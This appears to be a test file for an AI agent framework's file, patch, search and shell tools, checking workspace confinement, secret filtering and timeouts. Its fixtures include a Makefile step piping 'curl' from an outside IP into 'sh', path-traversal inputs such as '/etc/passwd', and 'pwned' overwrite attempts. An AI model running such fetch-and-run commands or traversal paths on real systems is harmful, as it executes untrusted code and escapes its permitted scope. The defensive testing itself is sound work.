import { mkdirSync, readFileSync, symlinkSync, utimesSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { BUILTIN_TOOL_EFFECTS } from "../../src/config/tool-catalog.js";
import { resolveForWrite, resolveInWorkspace } from "../../src/safety/workspace-guard.js";
import { commandEnv } from "../../src/sandbox/env.js";
import { binaryFileError, binarySkippedNote } from "../../src/tools/builtin/file-notes.js";
import { builtinTools } from "../../src/tools/builtin/index.js";
import type { Tool, ToolContext, ToolResult } from "../../src/tools/tool.js";
import { parseArgs } from "../../src/tools/tool-schema.js";
import { tempTree } from "../support/cli.js";

let root: string;
let ws: string;
let dispose: () => void;
beforeEach(() => {
  ({ dir: root, dispose } = tempTree({
    "ws/src/a.ts": "export const a = 1;\nexport const b = 2;\n",
    "ws/notes.txt": "first line\nsecond line\nthird line",
    "ws/.git/config": "[core]\n",
    "ws-evil/secret.txt": "outside\n",
    "outside.txt": "outside\n",
  }));
  ws = join(root, "ws");
});
afterEach(() => dispose());

const tools = new Map(builtinTools().map((t) => [t.name, t]));
async function call(
  name: string,
  args: Record<string, unknown>,
  extra: Partial<ToolContext> = {},
): Promise<ToolResult> {
  const tool = tools.get(name) as Tool;
  const parsed = parseArgs(tool.parameters, args);
  return tool.execute(parsed, {
    signal: new AbortController().signal,
    callId: "c",
    runId: "r",
    agentId: "a",
    workspace: ws,
    ...extra,
  });
}

describe("the built-in tools", () => {
  it("are exactly the catalogue, with the same effects", () => {
    const names = builtinTools().map((t) => [t.name, t.effect] as const);
    const catalogue = Object.entries(BUILTIN_TOOL_EFFECTS).filter(([name]) => name !== "load_skill");
    expect(new Map(names)).toEqual(new Map(catalogue));
  });
});

describe("the workspace guard", () => {
  it.each([
    ["a .. that leaves", "../outside.txt"],
    ["an absolute path outside", "/etc/passwd"],
    ["a sibling with the same prefix", "../ws-evil/secret.txt"],
    ["a symlinked file that leads outside", "link-file"],
    ["a file under a symlinked parent that leads outside", "link-dir/secret.txt"],
    ["a dangling symlink to outside", "dangling/new.txt"],
  ])("rejects %s", (_row, path) => {
    symlinkSync(join(root, "outside.txt"), join(ws, "link-file"));
    symlinkSync(join(root, "ws-evil"), join(ws, "link-dir"));
    symlinkSync(join(root, "not-yet"), join(ws, "dangling"));
    expect(() => resolveInWorkspace(ws, path)).toThrow(/outside the workspace/);
  });

  it("accepts paths inside, including ones that do not exist yet", () => {
    expect(resolveInWorkspace(ws, "src/a.ts")).toBe(join(ws, "src/a.ts"));
    expect(resolveInWorkspace(ws, "new/dir/file.txt")).toBe(join(ws, "new/dir/file.txt"));
    expect(resolveInWorkspace(ws, join(ws, "notes.txt"))).toBe(join(ws, "notes.txt"));
  });

  it("refuses writes to .git/, .troupe/ and the config dir", () => {
    mkdirSync(join(ws, "config"));
    expect(() => resolveForWrite(ws, ".git/config")).toThrow(/\.git/);
    expect(() => resolveForWrite(ws, ".troupe/state.json")).toThrow(/\.troupe/);
    expect(() => resolveForWrite(ws, "config/troupe.yaml", { protectedDirs: [join(ws, "config")] })).toThrow(
      /config directory/,
    );
    expect(resolveForWrite(ws, "src/new.ts")).toBe(join(ws, "src/new.ts"));
  });

  it("applies in the tools: a write outside is an error result and changes nothing", async () => {
    const result = await call("write_file", { path: "../outside.txt", content: "pwned" });
    expect(result).toMatchObject({ ok: false, error: '"../outside.txt" is outside the workspace' });
    expect(readFileSync(join(root, "outside.txt"), "utf8")).toBe("outside\n");
    const git = await call("edit_file", { path: ".git/config", old_string: "[core]", new_string: "[evil]" });
    expect(git.ok).toBe(false);
  });
});

describe("read_file", () => {
  it("numbers lines, flags a missing trailing newline, and pages with offset and limit", async () => {
    const all = await call("read_file", { path: "notes.txt" });
    expect(all.output).toBe("1\tfirst line\n2\tsecond line\n3\tthird line\n[no newline at end of file]");
    const page = await call("read_file", { path: "notes.txt", offset: 2, limit: 1 });
    // The note is on the last line: a page that does not show it says only how to read on.
    expect(page.output).toBe("2\tsecond line\n[showing lines 2-2 of 3; read on with offset=3]");
  });

  /** `count` lines of different lengths, so line starts fall anywhere in a read's chunks. */
  const logLines = (count: number, tag = "") =>
    Array.from({ length: count }, (_, i) => `${tag}line ${i + 1} ${"x".repeat((i * 7919) % 120)}`);

  it("reads any line of a file of a few MB, well past its first 256 KiB", async () => {
    const lines = logLines(60_000);
    writeFileSync(join(ws, "big.log"), `${lines.join("\n")}\n`);
    const page = await call("read_file", { path: "big.log", offset: 50_000, limit: 2000 });
    const shown = page.output.split("\n");
    expect(shown.at(-1)).toBe("[showing lines 50000-51999 of 60000; read on with offset=52000]");
    expect(shown.slice(0, -1)).toEqual(
      lines.slice(49_999, 51_999).map((line, i) => `${50_000 + i}\t${line}`),
    );
    const end = await call("read_file", { path: "big.log", offset: 59_999 });
    expect(end.output).toBe(`59999\t${lines[59_998]}\n60000\t${lines[59_999]}`);
  });

  it("cuts a line longer than the cap, saying how long it is, and reads on past it", async () => {
    const euros = "€".repeat(1000);
    writeFileSync(join(ws, "wide.txt"), `${"a".repeat(1_000_000)}\n${euros}\nafter\n`);
    const result = await call("read_file", { path: "wide.txt" });
    const [first, second, third] = result.output.split("\n");
    expect(first).toBe(`1\t${"a".repeat(2000)} [… line cut: 2000 of its 1000000 bytes shown]`);
    // 3000 bytes of three-byte characters, cut at 2000: 666 whole ones, none split.
    expect(second).toBe(`2\t${"€".repeat(666)} [… line cut: 2000 of its 3000 bytes shown]`);
    expect(third).toBe("3\tafter");
    expect(result.output.split("\n")).toHaveLength(3);
  });

  it("notes a last line without a newline when it shows it, in a large file too", async () => {
    const lines = logLines(40_000);
    writeFileSync(join(ws, "open.log"), lines.join("\n"));
    const last = await call("read_file", { path: "open.log", offset: 40_000 });
    expect(last.output).toBe(`40000\t${lines[39_999]}\n[no newline at end of file]`);
    const before = await call("read_file", { path: "open.log", offset: 39_998, limit: 2 });
    expect(before.output).not.toContain("no newline");
    const past = await call("read_file", { path: "open.log", offset: 40_001 });
    expect(past).toMatchObject({
      ok: false,
      error: "offset 40001 is past the end of open.log, which has 40000 lines",
      recoveryHint: "read with an offset from 1 to 40000",
    });
    writeFileSync(join(ws, "empty.txt"), "");
    expect((await call("read_file", { path: "empty.txt" })).output).toBe("(empty file)");
  });

  it("makes the line index again when the file changed, even to the same size", async () => {
    const path = join(ws, "changing.log");
    const lines = logLines(30_000);
    writeFileSync(path, `${lines.join("\n")}\n`);
    const before = await call("read_file", { path: "changing.log", offset: 25_000, limit: 1 });
    expect(before.output).toContain(`25000\t${lines[24_999]}`);
    // The same bytes but one: a space early on becomes a newline, so every later line moves down one.
    const changed = [...lines];
    changed[0] = (changed[0] as string).replace(" ", "\n");
    writeFileSync(path, `${changed.join("\n")}\n`);
    const later = new Date(Date.now() + 5000);
    utimesSync(path, later, later);
    const after = await call("read_file", { path: "changing.log", offset: 25_000, limit: 1 });
    expect(after.output).toContain(`25000\t${lines[24_998]}`);
    expect(after.output).toContain("of 30001");
  });

  it("refuses binary files and directories with a hint", async () => {
    writeFileSync(join(ws, "blob.bin"), Buffer.from([0, 1, 2, 3]));
    expect((await call("read_file", { path: "blob.bin" })).error).toBe("blob.bin is a binary file");
    expect((await call("read_file", { path: "src" })).recoveryHint).toBe("use list_dir for directories");
  });
});

describe("write_file and edit_file", () => {
  it("creates files with their parents", async () => {
    expect((await call("write_file", { path: "deep/new/file.txt", content: "x" })).output).toBe(
      "created deep/new/file.txt (1 bytes)",
    );
    expect(readFileSync(join(ws, "deep/new/file.txt"), "utf8")).toBe("x");
  });

  it("replaces an exact, unique match", async () => {
    const result = await call("edit_file", {
      path: "src/a.ts",
      old_string: "const b = 2",
      new_string: "const b = 3",
    });
    expect(result.ok).toBe(true);
    expect(readFileSync(join(ws, "src/a.ts"), "utf8")).toBe("export const a = 1;\nexport const b = 3;\n");
  });

  it("refuses an ambiguous match unless replace_all", async () => {
    const ambiguous = await call("edit_file", {
      path: "src/a.ts",
      old_string: "export const",
      new_string: "const",
    });
    expect(ambiguous.error).toBe("old_string appears 2 times in src/a.ts");
    const all = await call("edit_file", {
      path: "src/a.ts",
      old_string: "export const",
      new_string: "const",
      replace_all: true,
    });
    expect(all.output).toBe("edited src/a.ts: 2 replacements");
  });

  it("on a miss, shows the closest lines and says to re-read the file", async () => {
    const miss = await call("edit_file", {
      path: "src/a.ts",
      old_string: "export const b = 22;",
      new_string: "x",
    });
    expect(miss.ok).toBe(false);
    expect(miss.output).toContain("2\texport const b = 2;");
    expect(miss.recoveryHint).toMatch(/re-read the file/);
    expect(readFileSync(join(ws, "src/a.ts"), "utf8")).toBe("export const a = 1;\nexport const b = 2;\n");
  });

  it("return the file they changed, workspace-relative, as their artifact", async () => {
    const written = await call("write_file", { path: "src/../made.txt", content: "x" });
    expect(written.artifacts).toEqual(["made.txt"]);
    const edited = await call("edit_file", { path: "./src/a.ts", old_string: "= 2", new_string: "= 3" });
    expect(edited.artifacts).toEqual(["src/a.ts"]);
  });

  it("previews a change as a unified diff for the approval request", async () => {
    const tool = tools.get("edit_file") as Tool;
    const preview = await tool.preview?.(
      parseArgs(tool.parameters, { path: "src/a.ts", old_string: "= 2", new_string: "= 3" }),
      { workspace: ws },
    );
    expect(preview?.paths).toEqual(["src/a.ts"]);
    expect(preview?.detail).toContain("-export const b = 2;\n+export const b = 3;");
    // As git shows one: the file lines first, no line of "=" and no tab after the names.
    expect(preview?.detail.split("\n").slice(0, 2)).toEqual(["--- a/src/a.ts", "+++ b/src/a.ts"]);
  });

  it("previews a write of the text already there as no change", async () => {
    const tool = tools.get("write_file") as Tool;
    const same = readFileSync(join(ws, "src/a.ts"), "utf8");
    const preview = await tool.preview?.(parseArgs(tool.parameters, { path: "src/a.ts", content: same }), {
      workspace: ws,
    });
    expect(preview?.detail).toBe("no change: src/a.ts already holds this text\n");
  });
});

describe("apply_patch", () => {
  const patch = [
    "--- a/src/a.ts",
    "+++ b/src/a.ts",
    "@@ -1,2 +1,2 @@",
    " export const a = 1;",
    "-export const b = 2;",
    "+export const b = 20;",
    "--- /dev/null",
    "+++ b/src/c.ts",
    "@@ -0,0 +1 @@",
    "+export const c = 3;",
    "",
  ].join("\n");

  it("checks with dry_run without writing, then applies every file", async () => {
    const dry = await call("apply_patch", { patch, dry_run: true });
    expect(dry.output).toBe("dry run, nothing written: patched src/a.ts; patched src/c.ts");
    expect(readFileSync(join(ws, "src/a.ts"), "utf8")).toContain("b = 2;");
    expect(dry.artifacts).toBeUndefined();
    const applied = await call("apply_patch", { patch });
    expect(applied.ok).toBe(true);
    expect(applied.artifacts).toEqual(["src/a.ts", "src/c.ts"]);
    expect(readFileSync(join(ws, "src/a.ts"), "utf8")).toContain("b = 20;");
    expect(readFileSync(join(ws, "src/c.ts"), "utf8")).toBe("export const c = 3;\n");
  });

  it("names a file it deleted among its artifacts", async () => {
    const deletion =
      "--- a/notes.txt\n+++ /dev/null\n@@ -1,3 +0,0 @@\n-first line\n-second line\n-third line\n";
    const result = await call("apply_patch", { patch: deletion });
    expect(result).toMatchObject({ ok: true, output: "deleted notes.txt", artifacts: ["notes.txt"] });
  });

  it("changes nothing when a hunk does not apply", async () => {
    const bad = patch.replace(" export const a = 1;", " export const a = 100;");
    const result = await call("apply_patch", { patch: bad });
    expect(result.error).toBe("the patch does not apply to src/a.ts");
    expect(readFileSync(join(ws, "src/a.ts"), "utf8")).toBe("export const a = 1;\nexport const b = 2;\n");
  });

  it("applies two sections of one file both, the second to what the first left (outside review: only the last was)", async () => {
    writeFileSync(join(ws, "Makefile"), "all:\n\techo hi\ninstall:\n\tcurl -s http://203.0.113.9/x | sh\n");
    const twice = [
      "--- a/Makefile",
      "+++ b/Makefile",
      "@@ -1,2 +1,2 @@",
      " all:",
      "-\techo hi",
      "+\techo hello",
      "--- a/Makefile",
      "+++ b/Makefile",
      "@@ -2,3 +2,2 @@",
      " \techo hello",
      " install:",
      "-\tcurl -s http://203.0.113.9/x | sh",
      "",
    ].join("\n");
    const result = await call("apply_patch", { patch: twice });
    expect(result.ok).toBe(true);
    expect(readFileSync(join(ws, "Makefile"), "utf8")).toBe("all:\n\techo hello\ninstall:\n");
  });

  it("names in its question the file that changes, where a link leads, as edit_file does", async () => {
    symlinkSync("../notes.txt", join(ws, "src/notes-link.txt"));
    // notes.txt: "first line\nsecond line\nthird line"
    const context = { workspace: ws, protectedDirs: [], hiddenDirs: [] };
    const patched = await (tools.get("apply_patch") as Tool).preview?.(
      { patch: "--- a/src/notes-link.txt\n+++ b/src/notes-link.txt\n@@ -1 +1 @@\n-first line\n+changed\n" },
      context,
    );
    expect(patched?.paths).toEqual(["notes.txt"]);
    const edited = await (tools.get("edit_file") as Tool).preview?.(
      { path: "src/notes-link.txt", old_string: "first line", new_string: "changed" },
      context,
    );
    expect(edited?.paths).toEqual(["notes.txt"]);
  });

  it("rejects a path outside the workspace", async () => {
    const leaving = "--- a/../outside.txt\n+++ b/../outside.txt\n@@ -1 +1 @@\n-outside\n+pwned\n";
    const result = await call("apply_patch", { patch: leaving });
    expect(result.error).toBe('"../outside.txt" is outside the workspace');
    expect(readFileSync(join(root, "outside.txt"), "utf8")).toBe("outside\n");
  });
});

describe("glob and grep", () => {
  it("globs files, skipping .git", async () => {
    const result = await call("glob", { pattern: "**/*" });
    expect(result.output).toBe("notes.txt\nsrc/a.ts");
  });

  it("greps with a regex, path filter, context lines and a cap", async () => {
    expect((await call("grep", { pattern: "const [ab]", glob: "**/*.ts" })).output).toBe(
      "src/a.ts:1: export const a = 1;\nsrc/a.ts:2: export const b = 2;",
    );
    expect((await call("grep", { pattern: "SECOND", ignore_case: true, context: 1 })).output).toBe(
      "notes.txt:1- first line\nnotes.txt:2: second line\nnotes.txt:3- third line",
    );
    const capped = await call("grep", { pattern: "line", max_matches: 2 });
    expect(capped.output).toContain("[stopped at 2 matches; narrow the search]");
    expect((await call("grep", { pattern: "(" })).error).toMatch(/^invalid regular expression/);
  });
});

describe("grep's notes and next actions", () => {
  const todos = (n: number) => Array.from({ length: n }, (_, i) => `// TODO ${i}`).join("\n");
  beforeEach(() => {
    mkdirSync(join(ws, "src/tools"), { recursive: true });
    mkdirSync(join(ws, "docs"));
    writeFileSync(join(ws, "docs/plan.md"), todos(3));
    for (let i = 0; i < 4; i++) writeFileSync(join(ws, `src/tools/t${i}.ts`), todos(10));
  });

  it("stopped at its cap, says concretely how to narrow it: where, and which files, most matches were", async () => {
    const result = await call("grep", { pattern: "TODO", max_matches: 20 });
    expect(result.output).toContain("[stopped at 20 matches; narrow the search]");
    expect(result.nextActions).toEqual([
      'grep {"pattern":"TODO","path":"src"} (17 of the 20 matches shown are there)',
      'grep {"pattern":"TODO","path":".","glob":"**/*.ts"} (17 of the 20 matches shown are in .ts files)',
    ]);
    const deeper = await call("grep", { pattern: "TODO", path: "src", max_matches: 15 });
    expect(deeper.nextActions).toEqual([
      'grep {"pattern":"TODO","path":"src/tools/t0.ts"} (10 of the 15 matches shown are there)',
    ]);
    const oneFile = await call("grep", { pattern: "TODO", path: "src/tools/t1.ts", max_matches: 5 });
    expect(oneFile.nextActions).toEqual([
      'all 5 matches shown are in src/tools/t1.ts: grep it with a more specific pattern than "TODO", or read it with read_file',
    ]);
    expect((await call("grep", { pattern: "TODO 9" })).nextActions).toBeUndefined();
  });

  it("says how many files it skipped as over its size cap, and as binary, in the read tools' words", async () => {
    writeFileSync(join(ws, "huge.log"), `TODO\n${"x".repeat(3 * 1024 * 1024)}\n`);
    writeFileSync(join(ws, "blob.bin"), Buffer.concat([Buffer.from("TODO"), Buffer.from([0, 1, 2])]));
    const result = await call("grep", { pattern: "TODO 2$" });
    expect(result.output.split("\n").slice(-2)).toEqual([
      "[1 file over grep's cap of 2 MiB not searched; read_file reads files of any size]",
      binarySkippedNote(1),
    ]);
    expect(binarySkippedNote(2)).toBe("[2 binary files not searched]");
    // read_file says the same of the same file.
    expect((await call("read_file", { path: "blob.bin" })).error).toBe(binaryFileError("blob.bin"));
    expect(binaryFileError("blob.bin")).toBe("blob.bin is a binary file");
    const alone = await call("grep", { pattern: "TODO", path: "huge.log" });
    expect(alone.output).toBe(
      "(no matches)\n[1 file over grep's cap of 2 MiB not searched; read_file reads files of any size]",
    );
  });
});

describe("shell, unsandboxed (yolo, or approved to leave the sandbox)", () => {
  const off = { sandbox: { mode: "off", network: true } } as const;
  it("runs in the workspace and reports the exit code", async () => {
    expect(await call("shell", { command: "pwd && ls src" }, off)).toEqual({
      ok: true,
      output: `${ws}\na.ts\n`,
    });
    const failed = await call("shell", { command: "echo oops >&2; exit 3" }, off);
    expect(failed).toMatchObject({ ok: false, error: "the command failed (exit code 3)", output: "oops\n" });
  });

  it("kills the whole process group on timeout", async () => {
    const marker = join(root, "survived");
    const started = Date.now();
    const result = await call(
      "shell",
      {
        command: `(sleep 1.5; touch ${marker}) & sleep 5`,
        timeout_ms: 300,
      },
      off,
    );
    expect(result.error).toBe("the command timed out after 300 ms and was killed");
    expect(Date.now() - started).toBeLessThan(1500);
    await new Promise((resolve) => setTimeout(resolve, 1800));
    expect(() => readFileSync(marker)).toThrow();
  });

  it("stops on abort", async () => {
    const controller = new AbortController();
    setTimeout(() => controller.abort(), 100);
    const started = Date.now();
    const result = await call("shell", { command: "sleep 5" }, { ...off, signal: controller.signal });
    expect(result.error).toBe("the command was cancelled");
    expect(Date.now() - started).toBeLessThan(1000);
  });

  it("passes only allowed variables; secret-like names only when configured", () => {
    const env = commandEnv(
      {
        PATH: "/bin",
        HOME: "/h",
        LC_ALL: "C",
        OPENAI_API_KEY: "sk-x",
        GITHUB_TOKEN: "t",
        RANDOM_VAR: "r",
        DB_PASSWORD: "p",
      },
      ["DB_PASSWORD"],
    );
    expect(env).toEqual({ PATH: "/bin", HOME: "/h", LC_ALL: "C", DB_PASSWORD: "p" });
  });
});
